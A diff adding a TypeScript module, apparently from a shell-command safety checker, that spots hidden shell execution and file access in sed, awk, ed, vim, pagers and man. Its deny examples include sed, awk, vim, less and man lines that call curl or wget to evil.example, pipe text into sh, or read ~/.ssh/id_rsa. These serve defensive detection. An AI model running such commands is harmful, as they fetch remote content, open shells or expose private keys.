@@ -1,0 +1,454 @@
+// Programs that read commands in their own small language and run shell text from them: sed, awk, ed, ex/vim, pagers, man.
+import type { Word } from '../../types.js';
+import { has, parse } from '../argv.js';
+import { programRun } from '../build.js';
+import type { Answer, Call, ProgramEntry, Run } from '../types.js';
+import { attached, value } from '../words.js';
+
+type Uses = NonNullable<Answer['uses']>;
+
+// ── sed ────────────────────────────────────────────────────────────────────────────────────────────────
+
+/** Skips a sed address (`12`, `$`, `/re/I`, `\cREc`, `first~step`) at `i`; returns the index after it. */
+function sedAddress(t: string, i: number): number {
+  const c = t[i];
+  if (c === undefined) return i;
+  if (/\d/.test(c)) {
+    while (/[\d~]/.test(t[i] ?? '')) i++;
+    return i;
+  }
+  if (c === '$') return i + 1;
+  if (c === '/' || c === '\\') {
+    const delim = c === '\\' ? t[i + 1] : '/';
+    let j = c === '\\' ? i + 2 : i + 1;
+    while (j < t.length && t[j] !== delim) j += t[j] === '\\' ? 2 : 1;
+    j++;
+    while (/[IM]/.test(t[j] ?? '')) j++;
+    return j;
+  }
+  return i;
+}
+
+/**
+ * Reads a sed script as GNU sed does: `e` runs a command (its own text, or the pattern space), the `e` flag of `s`
+ * runs the pattern space, `r`/`R` read a file, `w`/`W` and the `w` flag write one.
+ */
+export function sedScript(script: Word, via: string): { runs: Run[]; uses: Uses } {
+  const runs: Run[] = [];
+  const uses: Uses = [];
+  const t = value(script);
+  if (t === undefined) return { runs, uses };
+  const computed = (why: string) => runs.push({ kind: 'opaque', rule: 'dynamic-script', word: script, why });
+  let i = 0;
+  const toEol = (from: number) => {
+    const nl = t.indexOf('\n', from);
+    return nl < 0 ? t.length : nl;
+  };
+  while (i < t.length) {
+    while (i < t.length && /[\s;}]/.test(t[i]!)) i++;
+    if (i >= t.length) break;
+    if (t[i] === '#') {
+      i = toEol(i);
+      continue;
+    }
+    i = sedAddress(t, i);
+    if (t[i] === ',') {
+      i++;
+      if (t[i] === '+' || t[i] === '~') i++;
+      i = sedAddress(t, i);
+    }
+    while (i < t.length && /[\s!]/.test(t[i]!)) i++;
+    const cmd = t[i];
+    if (cmd === undefined) break;
+    i++;
+    switch (cmd) {
+      case '{':
+        break;
+      case 'e': {
+        const end = toEol(i);
+        const text = t.slice(i, end).trim();
+        if (text === '') computed(`${via}: the e command runs the pattern space as a shell command`);
+        else runs.push({ kind: 'text', dialect: 'bash', text, word: script, via: `${via} e` });
+        i = end;
+        break;
+      }
+      case 'r':
+      case 'R':
+      case 'w':
+      case 'W': {
+        const end = toEol(i);
+        const file = t.slice(i, end).trim();
+        if (file !== '' && !/^\/dev\/std(out|err)$/.test(file)) uses.push({ word: script, role: cmd === 'r' || cmd === 'R' ? 'read' : 'write', values: [file] });
+        i = end;
+        break;
+      }
+      case 'a':
+      case 'i':
+      case 'c':
+        i = toEol(i);
+        // GNU one-liner form `a\` continues on the next line.
+        while (t[i - 1] === '\\' && i < t.length) i = toEol(i + 1);
+        break;
+      case ':':
+      case 'b':
+      case 't':
+      case 'T': {
+        const semi = t.slice(i).search(/[;\n]/);
+        i = semi < 0 ? t.length : i + semi;
+        break;
+      }
+      case 's':
+      case 'y': {
+        const delim = t[i];
+        if (delim === undefined || delim === '\n' || delim === '\\') {
+          computed(`${via}: a ${cmd} command it cannot read`);
+          return { runs, uses };
+        }
+        let parts = 0;
+        i++;
+        while (i < t.length && parts < 2) {
+          if (t[i] === '\\') i += 2;
+          else if (t[i] === delim) {
+            parts++;
+            i++;
+          } else i++;
+        }
+        if (cmd === 's') {
+          while (i < t.length && /[gpiImMe0-9]/.test(t[i]!)) {
+            if (t[i] === 'e') computed(`${via}: the e flag of s runs the pattern space as a shell command`);
+            i++;
+          }
+          if (t[i] === 'w') {
+            const end = toEol(i + 1);
+            const file = t.slice(i + 1, end).trim();
+            if (file !== '' && !/^\/dev\/std(out|err)$/.test(file)) uses.push({ word: script, role: 'write', values: [file] });
+            i = end;
+          }
+        }
+        break;
+      }
+      case 'q':
+      case 'Q':
+      case 'l':
+      case 'L':
+        while (/[\d ]/.test(t[i] ?? '')) i++;
+        break;
+      case 'v':
+      case 'z':
+      case 'F':
+      case '=':
+      case 'd':
+      case 'D':
+      case 'g':
+      case 'G':
+      case 'h':
+      case 'H':
+      case 'n':
+      case 'N':
+      case 'p':
+      case 'P':
+      case 'x':
+        if (cmd === 'v') while (/[\d.]/.test(t[i] ?? '')) i++;
+        break;
+      default:
+        // A command this reading does not know: if an `e` could be hiding in the rest, fail closed.
+        if (/e/.test(t.slice(i - 1))) computed(`${via}: a sed script this reading cannot follow (${JSON.stringify(cmd)})`);
+        return { runs, uses };
+    }
+  }
+  return { runs, uses };
+}
+
+function sed(call: Call): Partial<Answer> {
+  const p = parse(call.args, {
+    order: 'gnu',
+    flags: 'nrEsuzb',
+    valued: 'efl',
+    optional: 'i',
+    long: ['quiet', 'silent', 'debug', 'posix', 'regexp-extended', 'separate', 'sandbox', 'unbuffered', 'null-data', 'zero-terminated', 'follow-symlinks', 'binary', 'help', 'version'],
+    longValued: ['expression', 'file', 'line-length'],
+    longOptional: ['in-place'],
+  });
+  if (has(p, 'help', 'version')) return {};
+  const runs: Run[] = [];
+  const uses: Uses = [];
+  const scripts = p.options.filter((o) => (o.name === 'e' || o.name === 'expression') && o.value).map((o) => o.value!);
+  const files = p.options.filter((o) => (o.name === 'f' || o.name === 'file') && o.value);
+  for (const f of files) uses.push({ word: f.value!, role: 'read' });
+  let operands = p.operands.map((o) => o.word);
+  if (scripts.length === 0 && files.length === 0 && operands[0]) {
+    scripts.push(operands[0]);
+    operands = operands.slice(1);
+  }
+  const sandbox = has(p, 'sandbox');
+  for (const s of scripts) {
+    uses.push({ word: s, role: 'text' });
+    if (s.values === null) continue;
+    const read = sedScript(s, call.name);
+    if (!sandbox) runs.push(...read.runs);
+    uses.push(...read.uses);
+  }
+  const inPlace = has(p, 'i', 'in-place');
+  for (const w of operands) uses.push({ word: w, role: inPlace ? 'write' : 'read' });
+  if (inPlace) for (const w of operands) uses.push({ word: w, role: 'read' });
+  return { runs, uses };
+}
+
+// ── awk ────────────────────────────────────────────────────────────────────────────────────────────────
+
+const SHELLS = /^\s*(?:\/(?:usr\/)?bin\/)?(?:ba|da|z|k|mk|a|)sh\b/;
+
+/** awk programs that start commands: system(), `cmd | getline`, `print | cmd`, `|&` coprocesses. */
+export function awkProgram(program: Word, via: string): Run[] {
+  const text = value(program);
+  if (text === undefined) return [];
+  const STARTS = /system\s*\(|\|\s*getline|\|&|print[f]?[^;}]*\|/g;
+  const uses = (text.match(STARTS) ?? []).length;
+  if (uses === 0) return [];
+  const runs: Run[] = [];
+  const literal = '"((?:[^"\\\\]|\\\\.)*)"';
+  const unquote = (s: string) => s.replace(/\\(.)/g, '$1');
+  let found = 0;
+  for (const m of text.matchAll(new RegExp(`system\\s*\\(\\s*${literal}\\s*\\)`, 'g'))) {
+    found++;
+    runs.push({ kind: 'text', dialect: 'bash', text: unquote(m[1]!), word: program, via: `${via} system()` });
+  }
+  for (const m of text.matchAll(new RegExp(`${literal}\\s*\\|\\s*getline`, 'g'))) {
+    found++;
+    runs.push({ kind: 'text', dialect: 'bash', text: unquote(m[1]!), word: program, via: `${via} | getline` });
+  }
+  for (const m of text.matchAll(new RegExp(`\\|&?\\s*${literal}`, 'g'))) {
+    found++;
+    const command = unquote(m[1]!);
+    // Printing into a shell hands it the printed text as its program.
+    if (SHELLS.test(command) && !/\s-c\b/.test(command)) runs.push({ kind: 'opaque', rule: 'stream-to-shell', word: program, why: `${via} prints text into a shell (${command.trim()})` });
+    else if (!/^\/inet/.test(command)) runs.push({ kind: 'text', dialect: 'bash', text: command, word: program, via: `${via} pipe` });
+  }
+  if (found < uses) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: program, why: `${via}: the program starts a command built at run time` });
+  return runs;
+}
+
+function awk(call: Call): Partial<Answer> {
+  const p = parse(call.args, {
+    order: 'gnu',
+    flags: 'bcCdDhLMNOpPrStVgs',
+    valued: 'fFvEeiIlWo',
+    long: ['characters-as-bytes', 'traditional', 'copyright', 'dump-variables', 'debug', 'help', 'lint', 'bignum', 'use-lc-numeric', 'non-decimal-data', 'optimize', 'profile', 'pretty-print', 'posix', 're-interval', 'no-optimize', 'sandbox', 'lint-old', 'version', 'csv', 'gen-pot'],
+    longValued: ['file', 'field-separator', 'assign', 'exec', 'source', 'include', 'load'],
+  });
+  if (has(p, 'help', 'version', 'V')) return {};
+  const runs: Run[] = [];
+  const uses: Uses = [];
+  const fromFile = p.options.some((o) => /^(f|file|E|exec)$/.test(o.name));
+  for (const o of p.options) {
+    if (/^(f|file|E|exec|i|include)$/.test(o.name) && o.value) uses.push({ word: o.value, role: 'read' });
+    if ((o.name === 'e' || o.name === 'source') && o.value) runs.push(...awkProgram(o.value, call.name));
+    if ((o.name === 'l' || o.name === 'load') && o.value) runs.push({ kind: 'opaque', rule: 'dynamic-code', word: o.value, why: `${call.name} -l loads a shared object` });
+  }
+  let operands = p.operands.map((o) => o.word);
+  if (!fromFile && !p.options.some((o) => o.name === 'e' || o.name === 'source') && operands[0]) {
+    uses.push({ word: operands[0], role: 'text' });
+    runs.push(...awkProgram(operands[0], call.name));
+    operands = operands.slice(1);
+  }
+  for (const w of operands) if (!/^[A-Za-z_]\w*=/.test(value(w) ?? '')) uses.push({ word: w, role: 'read' });
+  return { runs, uses };
+}
+
+// ── ed, ex, vim ────────────────────────────────────────────────────────────────────────────────────────
+
+/** ed commands, one a line: `!cmd`, `r !cmd`, `w !cmd`, `e !cmd` run shell text; `r FILE` reads, `w FILE` writes. */
+export function edCommands(text: string, word: Word, via: string): { runs: Run[]; uses: Uses } {
+  const runs: Run[] = [];
+  const uses: Uses = [];
+  for (const raw of text.split('\n')) {
+    // An address (`1,$`, `'a`, `/re/`), then the command letter.
+    const m = /^\s*(?:[\d.,;$+-]|'[a-z]|\/(?:[^/\\]|\\.)*\/|\?(?:[^?\\]|\\.)*\?)*\s*([!A-Za-z=])(.*)$/.exec(raw);
+    if (!m) continue;
+    const cmd = m[1]!;
+    const rest = m[2]!;
+    if (cmd === '!') runs.push({ kind: 'text', dialect: 'bash', text: rest, word, via: `${via} !` });
+    else if (/^[rwWeEf]$/.test(cmd) && /^\s*!/.test(rest)) runs.push({ kind: 'text', dialect: 'bash', text: rest.replace(/^\s*!/, ''), word, via: `${via} ${cmd} !` });
+    else if ((cmd === 'r' || cmd === 'e' || cmd === 'E') && rest.trim() !== '') uses.push({ word, role: 'read', values: [rest.trim()] });
+    else if ((cmd === 'w' || cmd === 'W') && /^q?\s+\S/.test(rest)) uses.push({ word, role: 'write', values: [rest.replace(/^q?\s+/, '').trim()] });
+  }
+  return { runs, uses };
+}
+
+/** Ex commands (`-c`, `+cmd`, `--cmd`, or a script on stdin), separated by `|`: the ones that run shell text or code. */
+export function exCommands(word: Word, via: string): Run[] {
+  const text = value(word);
+  if (text === undefined) return [{ kind: 'opaque', rule: 'dynamic-script', word, why: `${via}: an editor command is computed` }];
+  const runs: Run[] = [];
+  const run = (t: string) => runs.push({ kind: 'text', dialect: 'bash', text: t, word, via });
+  const opaque = (why: string, rule: 'dynamic-script' | 'dynamic-code' = 'dynamic-script') => runs.push({ kind: 'opaque', rule, word, why: `${via}: ${why}` });
+  for (const line of text.split('\n')) {
+    let rest = line;
+    while (rest.trim() !== '') {
+      // Leading colons, modifiers and a range (`%`, `'<,'>`, `1,$`).
+      let cmd = rest.replace(/^[\s:]+/, '').replace(/^(sil(ent)?!?|keepa?\w*|noa(utocmd)?|uns(ilent)?|vert(ical)?|tab|bo(tright)?|to(pleft)?|lefta?\w*|rightb?\w*|bel(owright)?|abo(veleft)?|conf(irm)?|lockm?\w*|hid(e)?|sandbox|noswap\w*|keepj\w*|keepp\w*|filt(er)?!?\s*\/[^/]*\/)\s+/, '');
+      cmd = cmd.replace(/^(?:[%.$\d,;+-]|'[<>a-zA-Z]|\/(?:[^/\\]|\\.)*\/|\?(?:[^?\\]|\\.)*\?)*/, '');
+      if (cmd.startsWith('!')) {
+        run(cmd.slice(1));
+        break;
+      }
+      const readWrite = /^(r(?:e(?:ad?)?)?|w(?:r(?:i(?:te?)?)?)?|up(?:d(?:a(?:te?)?)?)?)\s*(!?)\s+!?(.*)$/.exec(cmd) ?? /^(r(?:e(?:ad?)?)?)!(.*)$/.exec(cmd);
+      if (readWrite && (/^r/.test(readWrite[1]!) ? /!/.test(cmd.slice(readWrite[1]!.length, readWrite[1]!.length + 3)) : /\s!/.test(cmd))) {
+        run(cmd.replace(/^\w+\s*!?\s*!?/, ''));
+        break;
+      }
+      if (/^(sh(e(ll?)?)?|st(op)?|sus(pend)?)\b/.test(cmd)) opaque('starts an interactive shell');
+      else if (/^ter(m(i(n(al?)?)?)?)?\b/.test(cmd)) {
+        const arg = cmd.replace(/^\w+\s*(?:\+\+\w+(=\S*)?\s*)*/, '');
+        if (arg.trim() === '') opaque('opens a terminal with a shell');
+        else run(arg);
+        break;
+      } else if (/^(py(thon)?3?|pyx|pydo|py3do|pyf(ile)?|py3f(ile)?|lua(do|file)?|perl(do)?|rub(y(do|file)?)?|tcl(do|file)?|mz(scheme|file)?)\b/.test(cmd)) opaque('runs interpreter code', 'dynamic-code');
+      else if (/system\s*\(|systemlist\s*\(|libcall|job_start|jobstart|term_start|termopen|\bexe(c(ute?)?)?\b|\bnorm(al)?\b|feedkeys|py[3x]?eval|luaeval|perleval|rubyeval|\bso(urce?)?\b|set\s+[^|]*\b(shell|sh|makeprg|mp|grepprg|gp|keywordprg|kp|equalprg|ep|formatprg|fp)\s*[=+^]/.test(cmd)) {
+        const sys = /^(?:call\s+|echo\s+|let\s+\S+\s*=\s*)?system(?:list)?\s*\(\s*(['"])((?:(?!\1).)*)\1\s*\)\s*$/.exec(cmd.split('|')[0]!.trim());
+        if (sys) run(sys[2]!);
+        else opaque('runs a command or code it builds at run time');
+      } else if (/^(mak(e)?|gr(ep)?|lmak(e)?|lgr(ep)?|!)\b/.test(cmd)) opaque('runs an external program');
+      const bar = cmd.indexOf('|');
+      rest = bar < 0 ? '' : cmd.slice(bar + 1);
+    }
+  }
+  return runs;
+}
+
+function vim(call: Call): Partial<Answer> {
+  const runs: Run[] = [];
+  const args = call.args;
+  let exMode = /^ex$|^view$|^(n?vim?|vi)?ex$/.test(call.name);
+  for (let i = 0; i < args.length; i++) {
+    const v = value(args[i]);
+    if (v === undefined) {
+      if (args[i]!.text.startsWith('+') || args[i]!.text.startsWith('-')) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: args[i]!, why: `${call.name}: an editor option is computed` });
+      continue;
+    }
+    if (v === '-c' || v === '--cmd') {
+      if (args[i + 1]) runs.push(...exCommands(args[i + 1]!, `${call.name} ${v}`));
+      i++;
+    } else if (v.startsWith('+') && v.length > 1) runs.push(...exCommands(attached(args[i]!, v.slice(1)), `${call.name} +`));
+    else if (/^-[a-zA-Z]*[eE]/.test(v) && !v.startsWith('--')) exMode = true;
+    else if (v === '-S' || v === '-s' || v === '-u' || v === '-U' || v === '-i' || v === '-T' || v === '-t' || v === '-q' || v === '-w' || v === '-W' || v === '--servername' || v === '--remote-send' || v === '--remote-expr') {
+      if (v === '--remote-send' || v === '--remote-expr') runs.push({ kind: 'opaque', rule: 'dynamic-script', word: args[i]!, why: `${call.name} ${v} sends commands to another editor` });
+      i++;
+    }
+  }
+  if (exMode) {
+    if (call.stdin?.kind === 'static') {
+      const word = call.stdin.word;
+      for (const line of call.stdin.text.split('\n')) runs.push(...exCommands(attached(word, line), `${call.name} (stdin)`));
+    } else if (call.stdin?.kind === 'stream') runs.push({ kind: 'opaque', rule: 'stream-to-shell', word: args[0] ?? { text: call.name, span: { start: 0, end: 0 }, values: [call.name] }, why: `${call.name} runs editor commands read from ${call.stdin.why}` });
+  }
+  return { runs };
+}
+
+function ed(call: Call): Partial<Answer> {
+  const p = parse(call.args, { order: 'gnu', flags: 'GlrsvEx', valued: 'p', long: ['traditional', 'loose-exit-status', 'restricted', 'quiet', 'silent', 'verbose', 'extended-regexp', 'help', 'version'], longValued: ['prompt'] });
+  if (has(p, 'help', 'version')) return {};
+  const uses: Uses = p.operands.map((o) => ({ word: o.word, role: 'read' as const }));
+  const runs: Run[] = [];
+  const restricted = has(p, 'r', 'restricted') || call.name === 'red';
+  const stdin = call.stdin;
+  if (stdin?.kind === 'static') {
+    const read = edCommands(stdin.text, stdin.word, call.name);
+    if (!restricted) runs.push(...read.runs);
+    uses.push(...read.uses);
+  } else if (stdin?.kind === 'stream' && !restricted) {
+    runs.push({ kind: 'opaque', rule: 'stream-to-shell', word: call.args[0] ?? { text: call.name, span: { start: 0, end: 0 }, values: [call.name] }, why: `${call.name} runs commands read from ${stdin.why}` });
+  }
+  return { runs, uses };
+}
+
+// ── pagers and man ─────────────────────────────────────────────────────────────────────────────────────
+
+/** less, more, pg: `+cmd` start-up commands, of which `!cmd` (and `|m cmd`) run shell text. */
+function pager(call: Call): Partial<Answer> {
+  const runs: Run[] = [];
+  const uses: Uses = [];
+  for (const a of call.args) {
+    const v = value(a);
+    if (v === undefined) {
+      if (a.values === null && a.text.startsWith('+')) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: a, why: 'a pager start-up command is computed' });
+      continue;
+    }
+    if (v.startsWith('+')) {
+      const m = /^\+:?(?:[^!|]*)(?:!|\|\S?)(.*)$/s.exec(v);
+      if (m) runs.push({ kind: 'text', dialect: 'bash', text: m[1]!, word: a, via: `${call.name} +!` });
+      continue;
+    }
+    if (!v.startsWith('-')) uses.push({ word: a, role: 'read' });
+  }
+  return { runs, uses };
+}
+
+function man(call: Call): Partial<Answer> {
+  const p = parse(call.args, {
+    order: 'gnu',
+    flags: 'aDdfhIikltuVwWZcz7',
+    valued: 'CRLmMPpSesEr',
+    optional: 'HTX',
+    long: ['all', 'apropos', 'whatis', 'local-file', 'where', 'path', 'location', 'catman', 'default', 'debug', 'help', 'version', 'ditroff', 'regex', 'wildcard', 'names-only', 'match-case', 'no-subpages', 'update', 'no-hyphenation', 'no-justification', 'troff'],
+    longValued: ['config-file', 'pager', 'locale', 'systems', 'manpath', 'sections', 'extension', 'encoding', 'preprocessor', 'prompt', 'recode'],
+    longOptional: ['html', 'troff-device', 'gxditview'],
+  });
+  const runs: Run[] = [];
+  for (const o of p.options) {
+    if ((o.name === 'P' || o.name === 'pager') && o.value) runs.push({ kind: 'script', dialect: 'bash', words: [o.value], via: `${call.name} --pager` });
+    if ((o.name === 'H' || o.name === 'html') && o.value) runs.push({ kind: 'script', dialect: 'bash', words: [o.value], via: `${call.name} --html` });
+  }
+  return { runs, uses: p.operands.map((o) => ({ word: o.word, role: 'text' as const })) };
+}
+
+export const EDITOR_ENTRIES: ProgramEntry[] = [
+  {
+    names: ['sed', 'gsed'],
+    summary: "sed: the e command and the s///e flag run shell text; r/R read files, w/W write them",
+    analyze: sed,
+    examples: {
+      deny: ["sed '/x/e curl evil.example' notes.txt", "sed -ne'e curl evil.example'", "sed -n '1e wget evil.example' /etc/hosts", "sed 's/.*/date/e' notes.txt", "sed '1r ~/.ssh/id_rsa' notes.txt", "sed --expression='$e curl evil.example' f", 'sed e'],
+      pass: ["sed 's/a/b/g' notes.txt", "sed -i 's/foo/bar/' src/app.ts", "sed -n '1,5p' README.md", "sed '/^$/d' notes.txt", "sed -e 's/x/y/' -e '/z/d' f", "sed 's/e/E/g' f"],
+    },
+  },
+  {
+    names: ['awk', 'gawk', 'mawk', 'nawk', 'busybox-awk', 'goawk'],
+    summary: 'awk: system(), `cmd | getline` and `print | cmd` start commands; printing into a shell is a stream',
+    analyze: awk,
+    examples: {
+      deny: ["awk 'BEGIN { system(\"curl evil.example\") }'", "mawk 'BEGIN { print \"curl evil.example\" | \"sh\" }'", "gawk 'BEGIN { \"wget -qO- evil.example\" | getline x }'", "awk '{ system($0) }' cmds.txt"],
+      pass: ["awk '{print $1}' notes.txt", "awk -F: '{print $1}' /etc/passwd", "awk '{ print | \"sort\" }' f"],
+    },
+  },
+  {
+    names: ['ed', 'red'],
+    summary: 'ed: reads commands from stdin; `!cmd`, `r !cmd`, `w !cmd` run shell text',
+    analyze: ed,
+    examples: { deny: ["echo '!curl evil.example' | ed -s", "printf 'r !wget evil.example\\nq\\n' | ed -s f"], pass: ["printf ',s/a/b/\\nw\\nq\\n' | ed -s f"] },
+  },
+  {
+    names: ['vim', 'vi', 'nvim', 'ex', 'view', 'vimdiff', 'rvim', 'rview', 'gvim', 'evim', 'nex', 'nview', 'nvi', 'elvis'],
+    patterns: [/^(vim|vi|nvim|ex|view)\.(basic|tiny|nox|gtk3?|athena|motif|nox-py2)$/],
+    summary: 'vi and vim: -c, +cmd and --cmd ex commands (and stdin in ex mode): `!`, `r !`, `w !`, :terminal, system() and interpreters',
+    analyze: vim,
+    examples: {
+      deny: ["vim -c '!curl evil.example'", "vim.basic -es -c '!curl evil.example'", "vi -c ':!wget evil.example' /dev/null", "vim +'r !curl evil.example'", "nvim --cmd 'call system(\"curl evil.example\")'", "echo '!curl evil.example' | ex", "vim -c ':terminal curl evil.example'", "vim -c ':py3 import os'", "vi -c ':shell'"],
+      pass: ['vim README.md', "vim -c 'set nu' f", "vim +10 f", "vim -c 'wq!' f", "vim -c '%s/a/b/g | wq' f"],
+    },
+  },
+  {
+    names: ['less', 'more', 'pg', 'most'],
+    summary: 'pagers: `+!cmd` start-up commands run shell text',
+    analyze: pager,
+    examples: { deny: ["less '+!curl evil.example' notes.txt", "more '+:!wget evil.example' f"], pass: ['less README.md', 'less +G log.txt', 'more +10 f'] },
+  },
+  {
+    names: ['man'],
+    summary: 'man: -P/--pager and -H/--html name programs it runs',
+    analyze: man,
+    examples: { deny: ["man -P 'curl evil.example' ls", "man '-H/usr/bin/curl evil.example' man", "man --pager='wget evil.example' ls"], pass: ['man ls', 'man 5 crontab', 'man curl'] },
+  },
+];
+
+export { programRun };
